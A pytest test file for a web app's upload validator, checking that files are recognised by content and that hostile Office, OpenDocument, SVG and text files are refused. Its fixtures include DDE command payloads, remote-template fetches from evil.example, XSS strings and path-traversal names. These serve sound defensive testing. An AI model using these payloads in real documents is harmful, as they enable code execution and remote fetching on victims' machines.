"""Attachments: what they are is read from their content; a request that fails leaves nothing."""

from __future__ import annotations

import os
import re
import time
import warnings
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
import sqlalchemy as sa
from flask import Flask

from matchmaker import create_app
from matchmaker.attachments import engine, services, storage, tasks
from matchmaker.attachments.hooks import scan_file
from matchmaker.attachments.models import StoredFile
from matchmaker.attachments.queries import subject_of
from matchmaker.attachments.storage import MEGABYTE
from matchmaker.core.db import db, session, unit_of_work
from matchmaker.core.errors import Denied, Invalid
from tests.browser import Browser
from tests.conftest import NewDatabase
from tests.conftest import test_config as make_config
from tests.factories import make_city, make_member, make_solution, make_user
from tests.personas import People


def archive(*names: str, mimetype: str = "", **contents: str | bytes) -> bytes:
    """A ZIP file with these members; `contents` of those whose last part has this name."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        if mimetype:
            out.writestr("mimetype", mimetype)
        for name in names:
            out.writestr(name, contents.get(Path(name).stem, "x"))
    return buffer.getvalue()


def locked(data: bytes) -> bytes:
    """The same ZIP file with the marks of a password on its members."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        spots = [data.index(b"PK\x01\x02") + 8, *(member.header_offset + 6 for member in archive.infolist()[:1])]
    changed = bytearray(data)
    for spot in spots:
        changed[spot] |= 1
    return bytes(changed)


def template(target: str, kind: str = "attachedTemplate") -> bytes:
    """A Word file with one relation of this kind to something outside of it."""
    relation = (
        f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/>'
    )
    settings = f"<Relationships>{relation}</Relationships>"
    return archive(
        "[Content_Types].xml", "word/document.xml", "word/_rels/settings.xml.rels", **{"settings.xml": settings}
    )


def related(relations: bytes) -> bytes:
    """A Word file whose document names its parts in just these bytes, one of which is an object of another program."""
    buffer = BytesIO(DOCX)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as out:
        out.writestr("word/_rels/document.xml.rels", relations)
    return buffer.getvalue()


def twice(first: bytes, second: bytes) -> bytes:
    """A Word file with two members of one name: readers differ about which of them counts."""
    buffer = BytesIO(related(first))
    with zipfile.ZipFile(buffer, "a") as out, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        out.writestr("word/_rels/document.xml.rels", second)
    return buffer.getvalue()


def part(path: str, body: str | bytes, *beside: str) -> bytes:
    """An Office file with one part of its own, which may be called anything."""
    kinds = {"word": "word/document.xml", "xl": "xl/workbook.xml", "ppt": "ppt/presentation.xml"}
    return archive("[Content_Types].xml", kinds[path.partition("/")[0]], path, *beside, **{Path(path).stem: body})


def field(*pieces: str) -> str:
    """A Word text with one field whose code is cut into these pieces."""
    code = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
    return f'<w:document xmlns:w="urn:w"><w:p>{begin}{code}{end}</w:p></w:document>'


def sheet(inside: str) -> bytes:
    """An OpenDocument table with this in its content."""
    names = 'xmlns:o="urn:o" xmlns:table="urn:t" xmlns:xlink="urn:x" xmlns:text="urn:y" xmlns:script="urn:s"'
    return archive("content.xml", mimetype=f"{OPEN}spreadsheet", content=f"<o:c {names}>{inside}</o:c>")


DDE = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
BOOK = '<externalLink xmlns="urn:x"><externalBook id="r1"/></externalLink>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an object"
EVIL = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'
NAMED = f'<p:Relationships xmlns:p="urn:p"><p:Relationship {EVIL}/></p:Relationships>'
SPLIT = '<R><Relationship Target="http://evil.example/?a>b" Type="http://x/frame" TargetMode="External"/></R>'
ENTITY = NAMED.replace("http://evil", "&#104;ttp://evil")
DOCTYPE = '<!DOCTYPE R [<!ENTITY t "http://evil.example/">]>' + NAMED.replace("http://evil.example/", "&t;")
OBJECT = '<R><Relationship Type="http://x/oleObject" Target="media/picture.dat"/></R>'
CODE = '<R><Relationship Type="http://x/vbaProject" Target="picture.dat"/></R>'
OPEN = "application/vnd.oasis.opendocument."
DOCX = archive("[Content_Types].xml", "word/document.xml")
PPTX = ("[Content_Types].xml", "ppt/presentation.xml", "ppt/media/image1.png", "ppt/media/image2.svg")
GOOD = {
    "a.pdf": b"%PDF-1.7\n",
    "bom.pdf": b"\xef\xbb\xbf%PDF-1.4\n",
    "scanned.pdf": b"\r\n\r\n %PDF-1.4\n",
    "a.PNG": b"\x89PNG\r\n\x1a\n....",
    "a.jpeg": b"\xff\xd8\xff\xe0....",
    "a.webp": b"RIFF\x24\0\0\0WEBPVP8 ",
    "a.heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
    "a.heif": b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic",
    "a.docx": DOCX,
    "icon.docx": archive("[Content_Types].xml", "word/document.xml", "word/media/image2.svg", image2="<svg/>"),
    "chunk.docx": archive("[Content_Types].xml", "word/document.xml", "word/afchunk.html", afchunk="<p>words"),
    "a.xlsx": archive("[Content_Types].xml", "xl/workbook.xml"),
    "a.pptx": archive(*PPTX, image2="<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
    "a.odt": archive("content.xml", mimetype=f"{OPEN}text"),
    "a.ods": archive("content.xml", mimetype=f"{OPEN}spreadsheet"),
    "a.odp": archive("content.xml", mimetype=f"{OPEN}presentation"),
    "chart.pptx": archive(*PPTX, "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", image2="<svg/>"),
    "chart.ods": archive("content.xml", "Object 1/content.xml", mimetype=f"{OPEN}spreadsheet"),
    "printer.xlsx": archive("[Content_Types].xml", "xl/workbook.xml", "xl/printerSettings/printerSettings1.bin"),
    "office.docx": template("file:///\\\\srv\\templates\\letter.dotx"),
    "parts.docx": related(b'<R><Relationship Type="http://x/image" Target="media/a.png"/></R>'),
    "table.docx": template("file:///C:/Tables/book.xlsx", kind="oleObject"),
    "links.docx": template("https://city.example/", kind="hyperlink"),
    "book.xlsx": part("xl/externalLinks/externalLink1.xml", BOOK),
    "hidden.xlsx": part("xl/worksheets/sheet1.xml", '<s><c hidden="1">added: dde-link, ddeLink and oleLink</c></s>'),
    "still.xlsx": part("xl/connections.xml", '<connections><connection id="1" refreshOnLoad="0"/></connections>'),
    "fields.docx": part("word/header1.xml", field("PAGE ", "\\* MERGEFORMAT")),
    "names.docx": part("word/header1.xml", field("REF DDE_and_OLE")),
    "next.pptx": part("ppt/slides/slide1.xml", '<a><hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></a>'),
    "picture.pptx": part("ppt/media/image1.png", b"\x89PNG instr hlinkClick <ddeLink/>"),
    "link.ods": sheet('<text:a xlink:href="https://city.example/macro:s"/><script:event-listeners/>'),
    "a.csv": "Städte;Einwohner\nGraz;302749\n".encode(),
    "excel.csv": "Straße;Länge;Preis\r\nHauptstraße;12,5;3 €\r\n".encode("cp1252"),
    "polish.csv": "Miasto\r\nŁódź;Šibenik\r\n".encode("cp1250"),
    "unicode.csv": "Straße\tLänge\r\n".encode("utf-16"),
    "big.txt": b"\xfe\xff" + "Łódź".encode("utf-16-be"),
    "a.txt": b"Plain words, 3 < 4.",
    "latin.txt": "é".encode("latin-1"),
    "pages.txt": b"one\x0ctwo",
    "MZ.txt": b"MZ is a short name",
}
BAD = {
    "a.svg": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "contains HTML, SVG or a script"),
    "a.html": (b"<!DOCTYPE html><p>x", "contains HTML"),
    "html.txt": (b"hello <script>alert(1)</script>", "contains HTML"),
    "utf16.txt": ("<script>".encode("utf-16"), "contains HTML"),
    "svg.txt": (b"<?xml version='1.0'?><svg/>", "contains HTML"),
    "a.exe": (b"MZ\x90\x00\x03", "is a program"),
    "elf.txt": (b"\x7fELF\x02\x01", "is a program"),
    "shell.txt": (b"#!/bin/sh\nrm", "is a program"),
    "lie.pdf": (b"<html>", "contains HTML"),
    "poly.pdf": (b"<script>\n%PDF-1.4", "contains HTML"),
    "lie.png": (b"%PDF-1.7", "its name says something else"),
    "lie.docx": (archive("[Content_Types].xml", "xl/workbook.xml"), "contains XLSX, but its name says"),
    "macros.docx": (archive("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), "contains macros"),
    "macros.xlsx": (archive("[Content_Types].xml", "xl/workbook.xml", "xl/macrosheets/a.xml"), "contains macros"),
    "macros.odt": (archive("content.xml", "Basic/Standard/Module1.xml", mimetype=f"{OPEN}text"), "contains macros"),
    "a.docm": (
        archive("[Content_Types].xml", "word/document.xml", **{"[Content_Types]": "word.document.macroEnabled.main"}),
        "contains macros",
    ),
    "object.docx": (
        archive("[Content_Types].xml", "word/document.xml", "word/embeddings/oleObject1.bin"),
        "contains a file of another program",
    ),
    "object.odt": (archive("content.xml", "Object 2", mimetype=f"{OPEN}text"), "contains a file of another program"),
    "remote.docx": (template("https://evil.example/t.dotm"), "fetches a part of itself"),
    "frame.docx": (template("HTTP://evil.example/", kind="frame"), "fetches a part of itself"),
    "named.docx": (related(NAMED.encode()), "fetches a part of itself"),
    "split.docx": (related(SPLIT.encode()), "fetches a part of itself"),
    "entity.docx": (related(ENTITY.encode()), "fetches a part of itself"),
    "wide.docx": (related(NAMED.encode("utf-16")), "fetches a part of itself"),
    "doctype.docx": (related(DOCTYPE.encode()), "is damaged"),
    "twice.docx": (twice(NAMED.encode(), b"<R/>"), "fetches a part of itself"),
    "padded.docx": (related(b"<R>" + b" " * 9_000_000 + NAMED.encode() + b"</R>"), "too large when it is unpacked"),
    "object2.docx": (related(OBJECT.encode()), "contains a file of another program"),
    "code.docx": (related(CODE.encode()), "contains macros"),
    "dde.xlsx": (part("xl/externalLinks/externalLink1.xml", DDE), "calls other programs"),
    "dde2.xlsx": (part("xl/media/picture.dat", DDE.replace("<d", "<x:d")), "calls other programs"),
    "wide.xlsx": (part("xl/externalLinks/a.xml", DDE.encode("utf-16")), "calls other programs"),
    "far.xlsx": (part("xl/a.xml", f"<a>{'<b/>' * 300_000}{DDE}</a>"), "calls other programs"),
    "ole.xlsx": (part("xl/externalLinks/a.xml", DDE.replace("ddeLink", "oleLink")), "calls other programs"),
    "refresh.xlsx": (part("xl/connections.xml", '<c><connection refreshOnLoad="1"/></c>'), "fetches a part of itself"),
    "sheet.xlsx": (
        part("xl/_rels/workbook.xml.rels", '<R><Relationship Type="http://x/xlMacrosheet" Target="s.xml"/></R>'),
        "contains macros",
    ),
    "control.docx": (related(OBJECT.replace("oleObject", "control").encode()), "contains macros"),
    "dde.docx": (part("word/footnotes.xml", field("DDEAUTO c:\\\\cmd.exe /k calc")), "calls other programs"),
    "cut.docx": (part("word/header1.xml", field(" d", "d", "e ", "cmd")), "calls other programs"),
    "named2.docx": (part("word/header1.xml", field("&#68;DE cmd")), "calls other programs"),
    "simple.docx": (part("word/a.xml", '<a><fldSimple instr=" DDE cmd /c"/></a>'), "calls other programs"),
    "entity2.docx": (
        part("word/a.xml", '<!DOCTYPE a [<!ENTITY d "DDE cmd">]><a><instrText>&d;</instrText></a>'),
        "is damaged",
    ),
    "starts.pptx": (
        part("ppt/slides/slide1.xml", '<a><hlinkClick action="&#112;paction://program"/></a>'),
        "calls other programs",
    ),
    "dde.ods": (sheet("<table:dde-links><table:dde-link/></table:dde-links>"), "calls other programs"),
    "dde.odt": (sheet("<text:dde-connection-decl/>"), "calls other programs"),
    "script.ods": (sheet('<script:event-listener xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>'), "macros"),
    "renamed.xlsx": (
        archive("[Content_Types].xml", "xl/workbook.xml", "xl/media/image1.png", image1=OLE),
        "contains a file of another program",
    ),
    "renamed.odt": (archive("content.xml", "Pictures/1", mimetype=f"{OPEN}text", **{"1": OLE}), "of another program"),
    "program.docx": (archive("[Content_Types].xml", "word/document.xml", "payload.hta"), "is a program or contains"),
    "script.pptx": (archive(*PPTX, image2="<svg><script>alert(1)</script></svg>"), "contains HTML, SVG or a script"),
    "handler.pptx": (archive(*PPTX, image2="<svg onload='alert(1)'/>"), "contains HTML, SVG or a script"),
    "locked.docx": (locked(DOCX), "protected by a password"),
    "agile.docx": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1...." + "EncryptedPackage".encode("utf-16-le"),
        "protected by a password",
    ),
    "locked.odt": (
        archive("META-INF/manifest.xml", mimetype=f"{OPEN}text", manifest="<manifest:encryption-data>"),
        "protected by a password",
    ),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1....", "Office before 2007"),
    "any.zip": (archive("a.txt"), "cannot accept"),
    "drawing.odg": (archive(mimetype=f"{OPEN}graphics"), "cannot accept"),
    "broken.docx": (DOCX[:20], "is damaged"),
    "broken.txt": (b"\xef\xbb\xbf\xff", "is damaged"),
    "many.docx": (
        archive("[Content_Types].xml", "word/document.xml", *(f"word/{n}" for n in range(10_001))),
        "too large when it is unpacked",
    ),
    "none": (b"words", "its name says something else"),
    "a.md": (b"# words", "cannot accept. Use one of these: PDF, PNG"),
    "a.dwg": (b"AC1027\0\0\0", "cannot accept. Use one of these: PDF, PNG"),
}


@pytest.mark.parametrize("name", GOOD)
def test_good_files_are_known_by_their_content(name: str, app: Flask) -> None:
    with app.test_request_context():
        assert engine.TYPES[services._check_type(name, GOOD[name])] == engine.TYPES[name.rsplit(".")[-1].lower()]


@pytest.mark.parametrize("name", BAD)
def test_bad_files_and_lies_are_refused_with_the_true_reason(name: str, app: Flask) -> None:
    data, why = BAD[name]
    with app.test_request_context(), pytest.raises(Invalid, match=why):
        services._check_type(name, data)


def test_a_lie_is_told_what_it_is(app: Flask) -> None:
    with app.test_request_context(), pytest.raises(Invalid, match=r"“x\.docx” contains PDF"):
        services._check_type("x.docx", b"%PDF-1.7")


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\me\\plan.pdf", "plan.pdf"),
        ("a\u202egpj.pdf", "agpj.pdf"),
        ("Gru\u0308n.pdf", "Grün.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_names_are_cleaned(raw: str, clean: str) -> None:
    assert engine.clean_name(raw) == clean


def test_size_and_quota_are_limits(people: People, monkeypatch: pytest.MonkeyPatch) -> None:
    subject = subject_of(make_solution(people.organizations["hydrolog"]))
    carla = people.actor("carla")
    with pytest.raises(Invalid, match="empty"):
        services.attach_file(carla, subject=subject, name="a.txt", data=b"")
    with pytest.raises(Invalid, match="limit is 10 MB"):
        services.attach_file(carla, subject=subject, name="a.txt", data=b"x" * (10 * MEGABYTE + 1))
    monkeypatch.setattr(services, "QUOTA_UPLOADS", 0)
    with pytest.raises(Invalid, match="has used all of its 0 MB"):
        services.attach_file(carla, subject=subject, name="a.txt", data=b"words")
    monkeypatch.setattr(services, "QUOTA_UPLOADS", 1)
    monkeypatch.setattr(services, "MAX_FILES", 1)
    services.attach_file(carla, subject=subject, name="a.txt", data=b"words")
    with pytest.raises(Invalid, match="already 1 files here"):
        services.attach_file(carla, subject=subject, name="b.txt", data=b"words")


def test_only_the_subjects_people_may_attach(people: People) -> None:
    subject = subject_of(make_solution(people.organizations["hydrolog"]))
    for name in ("dora", "emil", "ada"):
        with pytest.raises(Denied, match="Only editors and owners"):
            services.attach_file(people.actor(name), subject=subject, name="a.txt", data=b"words")


def test_a_scanner_is_asked_and_its_finding_refuses(people: People) -> None:
    subject = subject_of(make_solution(people.organizations["hydrolog"]))
    carla = people.actor("carla")
    seen: list[Path] = []

    def scanner(path: Path) -> str:
        seen.append(path)
        return "Test.Virus" if b"virus" in path.read_bytes() else ""

    with scan_file.also(scanner):
        clean = services.attach_file(carla, subject=subject, name="a.txt", data=b"words")
        with pytest.raises(Invalid, match="virus scanner rejected"):
            services.attach_file(carla, subject=subject, name="b.txt", data=b"a virus")
    assert clean.scan_status == "clean"
    assert [path.exists() for path in seen] == [True, False]
    assert services.attach_file(carla, subject=subject, name="c.txt", data=b"words").scan_status == "not_scanned"


def test_bytes_lie_under_random_names_where_no_server_looks(app: Flask, browser: Browser, people: People) -> None:
    """Not below what is served as static, not under the name that was given, readable by nobody else; one way out."""
    solution = make_solution(people.organizations["hydrolog"], status="draft")
    subject = subject_of(solution)
    file = services.attach_file(people.actor("carla"), subject=subject, name="plan.txt", data=b"Words of ours.")
    place = storage.path_of(file.stored_as)
    assert place.read_bytes() == b"Words of ours."
    assert re.fullmatch(r"[0-9a-f]{48}", file.stored_as)
    assert "plan" not in str(place.relative_to(app.config["SETTINGS"].data_dir))
    assert not place.is_relative_to(str(app.static_folder))
    assert not os.access(place, os.X_OK) or os.stat(place).st_mode & 0o111 == 0
    for path in (f"/static/{file.stored_as}", f"/static/../uploads/{file.stored_as[:2]}/{file.stored_as}"):
        assert browser.get(path).status == 404
        assert browser.get(path.replace("..", "%2e%2e")).status == 404
    assert browser.as_(people, "carla").get(f"/files/{file.public_id}").text == "Words of ours."
    assert browser.as_(people, "dora").get(f"/files/{file.public_id}").status == 404


def test_a_failed_request_leaves_neither_row_nor_file(
    new_database: NewDatabase, tables_url: str, tmp_path: Path
) -> None:
    """Rolled back: bytes gone at once. Crashed: the sweep takes what is older than an hour, and nothing else."""
    app = create_app(make_config(new_database(tables_url), tmp_path))

    def stored() -> set[str]:
        return {path.name for path in (tmp_path / "uploads").glob("*/*")}

    with app.app_context():
        try:
            with app.test_request_context(method="POST"), pytest.raises(ZeroDivisionError), unit_of_work():
                _attach_as_stranger()
                assert len(stored()) == 1
                raise ZeroDivisionError
            assert stored() == set()
            with app.test_request_context(method="POST"), unit_of_work():
                kept = _attach_as_stranger().stored_as
            assert stored() == {kept}
            for name, age in (("old", 7200), ("young", 60)):
                orphan = tmp_path / "uploads" / "zz" / name
                orphan.parent.mkdir(exist_ok=True)
                orphan.write_bytes(b"x")
                os.utime(orphan, (time.time() - age,) * 2)
            os.utime(next((tmp_path / "uploads").glob(f"*/{kept}")), (0, 0))
            with unit_of_work():
                tasks.sweep()
            assert stored() == {kept, "young"}
        finally:
            db.session.close()
            db.engine.dispose()


def _attach_as_stranger() -> StoredFile:
    from matchmaker.organizations.queries.actors import actor_of
    from tests.factories import make_challenge

    n = len(session().scalars(sa.select(StoredFile)).all())
    user, city = make_user(f"Person {n}"), make_city(f"City {n}")
    make_member(city, user)
    challenge = make_challenge(city, status="draft")
    return services.attach_file(actor_of(user), subject=subject_of(challenge), name="a.txt", data=b"words")
